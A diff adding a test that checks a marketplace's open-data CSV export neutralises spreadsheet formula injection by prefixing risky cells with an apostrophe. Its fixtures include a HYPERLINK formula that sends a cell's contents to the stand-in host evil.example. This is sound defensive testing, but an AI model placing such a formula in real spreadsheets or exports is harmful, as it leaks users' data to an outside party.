@@ -233,3 +233,27 @@ async def test_confidential_details_need_an_nda_and_every_read_is_logged(client,
     )
     assert cleared.json()["has_confidential_details"] is False
     assert (await client.get(url, headers=buyer.headers)).json()["confidential_details"] is None
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "+86 21 5555 0000", "-1+1", "@SUM(1,2)"]
+# Titles are stored trimmed; a summary keeps its leading tab or carriage return.
+SUMMARIES = ["=1+1 技术成熟。", "\t固态电池。", "\r钠电池。", "-2 技术成熟。"]
+
+
+async def test_open_data_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(client, app):
+    ops = await operator(client, app)
+    seller = await verified(client, ops, "enterprise", name="@上海新能科技有限公司")
+    for n, (title, summary) in enumerate(zip(FORMULAS, SUMMARIES, strict=True)):
+        await announced_listing(client, seller, ops, title=title, keywords=[f"-k{n}"], summary=summary)
+    exported = await client.get(f"{API}/open-data/listings", params={"format": "csv"})
+    assert exported.status_code == 200
+    table = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+    assert sorted(r["title"] for r in table) == sorted("'" + t for t in FORMULAS)
+    assert sorted(r["summary"] for r in table) == sorted("'" + s for s in SUMMARIES)
+    assert {r["seller_name"] for r in table} == {"'@上海新能科技有限公司"}
+    assert all(r["keywords"].startswith("'-k") for r in table)
+    # Numbers the export writes itself stay numbers.
+    assert {r["asking_price"] for r in table} == {"50000000"} and all(r["cursor"].isdigit() for r in table)
+    # The JSON lines carry the text as it was written.
+    jsonl = await client.get(f"{API}/open-data/listings")
+    assert sorted(json.loads(line)["title"] for line in jsonl.text.splitlines()) == sorted(FORMULAS)
